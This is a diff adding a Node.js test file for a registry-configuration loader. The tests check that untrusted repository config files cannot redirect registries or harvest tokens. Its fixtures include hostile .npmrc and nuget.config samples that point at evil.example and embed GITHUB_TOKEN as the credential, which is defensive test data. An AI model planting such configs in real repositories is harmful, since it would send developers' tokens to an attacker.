@@ -0,0 +1,95 @@
+const { test, beforeEach, afterEach } = require('node:test');
+const assert = require('node:assert');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const axios = require('axios');
+const RegistryConfig = require('../src/RegistryConfig');
+
+const logger = { info() {}, warn() {} };
+
+let home;
+let project;
+
+beforeEach(() => {
+  home = fs.mkdtempSync(path.join(os.tmpdir(), 'registry-config-home-'));
+  project = fs.mkdtempSync(path.join(os.tmpdir(), 'registry-config-project-'));
+});
+
+afterEach(() => {
+  fs.rmSync(home, { recursive: true, force: true });
+  fs.rmSync(project, { recursive: true, force: true });
+});
+
+const load = (options = {}) => new RegistryConfig({
+  logger,
+  homeDir: home,
+  projectDir: project,
+  env: { GITHUB_TOKEN: 'ghp_secret', NPM_TOKEN: 'npm_secret' },
+  ...options
+}).load();
+
+const HOSTILE_NPMRC = 'registry=https://evil.example/\n//evil.example/:_authToken=${GITHUB_TOKEN}\n';
+
+test('expands environment variables in the user .npmrc', () => {
+  fs.writeFileSync(path.join(home, '.npmrc'), 'registry=https://npm.internal/\n//npm.internal/:_authToken=${NPM_TOKEN}\n');
+  const config = load();
+
+  assert.strictEqual(config.registries.npm, 'https://npm.internal');
+  assert.deepStrictEqual(config.credentials.find(entry => entry.prefix === 'https://npm.internal/'),
+    { prefix: 'https://npm.internal/', authorization: 'Bearer npm_secret', ecosystem: null });
+});
+
+test('ignores the scanned repository .npmrc unless it is trusted', () => {
+  fs.writeFileSync(path.join(project, '.npmrc'), HOSTILE_NPMRC);
+  const config = load();
+
+  assert.strictEqual(config.registries.npm, undefined);
+  assert.deepStrictEqual(config.credentials, []);
+});
+
+test('never expands environment variables in a trusted repository .npmrc', () => {
+  fs.writeFileSync(path.join(project, '.npmrc'), HOSTILE_NPMRC);
+  const config = load({ trustProject: true });
+
+  assert.strictEqual(config.registries.npm, 'https://evil.example');
+  assert.deepStrictEqual(config.credentials, []);
+});
+
+test('ignores repository nuget.config, auth.json and composer.json unless trusted', () => {
+  fs.writeFileSync(path.join(project, 'nuget.config'), `<configuration>
+  <packageSources><clear/><add key="evil" value="https://evil.example/v3/index.json"/></packageSources>
+  <packageSourceCredentials><evil><add key="Username" value="u"/><add key="ClearTextPassword" value="%GITHUB_TOKEN%"/></evil></packageSourceCredentials>
+</configuration>`);
+  fs.writeFileSync(path.join(project, 'auth.json'), JSON.stringify({ bearer: { 'evil.example': 'token' } }));
+  fs.writeFileSync(path.join(project, 'composer.json'), JSON.stringify({ repositories: [{ type: 'composer', url: 'https://evil.example' }] }));
+
+  const untrusted = load();
+  assert.deepStrictEqual(untrusted.getRegistries('dotnet', 'Foo', 'https://api.nuget.org'), ['https://api.nuget.org']);
+  assert.deepStrictEqual(untrusted.getRegistries('php', 'a/b', 'https://repo.packagist.org'), ['https://repo.packagist.org']);
+  assert.deepStrictEqual(untrusted.credentials, []);
+
+  const trusted = load({ trustProject: true });
+  assert.deepStrictEqual(trusted.getRegistries('dotnet', 'Foo', 'https://api.nuget.org'), ['https://evil.example/v3/index.json']);
+  assert.deepStrictEqual(trusted.getRegistries('php', 'a/b', 'https://repo.packagist.org'), ['https://evil.example', 'https://repo.packagist.org']);
+  // The bearer token is taken as written; the %GITHUB_TOKEN% password is not expanded
+  assert.deepStrictEqual(trusted.credentials.map(entry => entry.authorization), ['Bearer token']);
+});
+
+test('redacts configured secrets', () => {
+  fs.writeFileSync(path.join(home, '.npmrc'), '//npm.internal/:_authToken=${NPM_TOKEN}\n');
+  assert.strictEqual(load().redact('sent npm_secret'), 'sent ***');
+});
+
+test('only sends Composer github-oauth tokens with Composer requests', async () => {
+  fs.mkdirSync(path.join(home, '.composer'));
+  fs.writeFileSync(path.join(home, '.composer', 'auth.json'), JSON.stringify({ 'github-oauth': { 'github.com': 'gho_token' } }));
+  // Echo the request headers back instead of going over the network
+  const http = load().attach(axios.create({ adapter: async (config) => ({ data: config.headers, status: 200, headers: {}, config }) }));
+
+  const go = await http.get('https://api.github.com/repos/owner/repo');
+  const composer = await http.get('https://api.github.com/repos/owner/repo', { ecosystem: 'php' });
+
+  assert.strictEqual(go.data.Authorization, undefined);
+  assert.strictEqual(composer.data.Authorization, 'token gho_token');
+});